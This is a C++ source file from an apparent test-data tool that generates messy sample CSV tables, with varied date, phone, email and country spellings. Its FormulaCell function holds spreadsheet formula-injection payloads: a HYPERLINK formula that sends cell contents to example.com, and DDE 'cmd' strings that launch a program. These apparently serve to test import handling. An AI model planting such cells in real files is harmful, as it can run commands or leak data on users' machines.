#include "tools/consentry/samples/table.h"

#include <array>
#include <map>

#include "absl/strings/ascii.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/strings/str_replace.h"

namespace consentry::tools {

SampleTable::SampleTable(char delimiter, std::string_view line_end,
                         const std::vector<std::string>& header,
                         SampleRandom* random)
    : delimiter_(delimiter), line_end_(line_end), random_(random) {
  Append(header);
}

void SampleTable::Append(const std::vector<std::string>& cells) {
  for (size_t i = 0; i < cells.size(); ++i) {
    if (i > 0) text_.push_back(delimiter_);
    const std::string& cell = cells[i];
    if (cell.find_first_of("\"\r\n") == std::string::npos &&
        cell.find(delimiter_) == std::string::npos) {
      text_ += cell;
      continue;
    }
    text_.push_back('"');
    text_ += absl::StrReplaceAll(cell, {{"\"", "\"\""}});
    text_.push_back('"');
  }
  text_ += line_end_;
}

void SampleTable::AddRaw(std::string_view line) {
  text_ += line;
  text_ += line_end_;
}

void SampleTable::Add(std::vector<std::string> cells) {
  const bool twice = random_->Percent(1.5);
  if (twice) Append(cells);
  for (std::string& cell : cells) {
    if (cell.empty() || !random_->Percent(2)) continue;
    cell = random_->Percent(70) ? cell + std::string(1 + random_->Below(3), ' ')
                                : " " + cell;
  }
  Append(cells);
}

std::string SampleTable::InWindows1252() const {
  std::string out;
  for (size_t i = 0; i < text_.size(); ++i) {
    const auto byte = static_cast<unsigned char>(text_[i]);
    if ((byte == 0xC2 || byte == 0xC3) && i + 1 < text_.size()) {
      const auto next = static_cast<unsigned char>(text_[++i]);
      out.push_back(static_cast<char>(((byte & 3) << 6) | (next & 0x3F)));
    } else {
      out.push_back(text_[i]);
    }
  }
  return out;
}

std::string GermanDay(absl::CivilDay day) {
  return absl::StrFormat("%02d.%02d.%04d", day.day(), day.month(), day.year());
}

std::string IsoDay(absl::CivilDay day) {
  return absl::StrFormat("%04d-%02d-%02d", day.year(), day.month(), day.day());
}

std::string WrittenPhone(const std::string& e164, SampleRandom* random) {
  if (e164.empty()) return "";
  // Calling codes of the sample's places.
  const size_t code = absl::string_view(e164).substr(0, 2) == "+1" ? 2 : 3;
  const std::string rest = e164.substr(code);
  const std::string trunk = code == 2 ? "" : "0";
  switch (random->Below(5)) {
    case 0:
      return e164;
    case 1:
      return absl::StrCat(e164.substr(0, code), " ", rest.substr(0, 3), " ",
                          rest.substr(3));
    case 2:
      return absl::StrCat(trunk, rest.substr(0, 3), "-", rest.substr(3));
    case 3:
      return absl::StrCat("00", e164.substr(1, code - 1), " ",
                          rest.substr(0, 2), " ", rest.substr(2));
    default:
      return code == 2 ? absl::StrCat("(", rest.substr(0, 3), ") ",
                                      rest.substr(3, 3), "-", rest.substr(6))
                       : absl::StrCat(e164.substr(0, code), " (0)", rest);
  }
}

std::string BrokenEmail(const std::string& email, SampleRandom* random) {
  const size_t at = email.find('@');
  switch (random->Below(4)) {
    case 0:
      return absl::StrReplaceAll(email, {{"@", "(at)"}});
    case 1:
      return email.substr(0, at + 1) + "example";
    case 2:
      return absl::StrReplaceAll(email, {{"@", "@@"}});
    default:
      return email.substr(0, at);
  }
}

std::string WrittenCountry(std::string_view country, SampleRandom* random) {
  static constexpr std::array<std::array<std::string_view, 5>, 9> kSpellings = {
      {{"DE", "DEU", "Deutschland", "Germany", "deutschland"},
       {"AT", "AUT", "Österreich", "Austria", "Oesterreich"},
       {"FR", "FRA", "Frankreich", "France", "FRANCE"},
       {"ES", "ESP", "Spanien", "Spain", "España"},
       {"IT", "ITA", "Italien", "Italy", "Italia"},
       {"NL", "NLD", "Niederlande", "Netherlands", "Holland"},
       {"SE", "SWE", "Schweden", "Sweden", "Sverige"},
       {"GB", "GBR", "Großbritannien", "United Kingdom", "UK"},
       {"US", "USA", "Vereinigte Staaten", "United States", "U.S.A."}}};
  for (const auto& row : kSpellings) {
    if (row[0] == country) return std::string(row[random->Below(5)]);
  }
  return std::string(country);
}

std::string FormulaCell(SampleRandom* random) {
  static constexpr std::array<std::string_view, 4> kCells = {
      "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")",
      "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
      "-2+3+cmd|'/C calc'!A0"};
  return std::string(kCells[random->Below(4)]);
}

}  // namespace consentry::tools
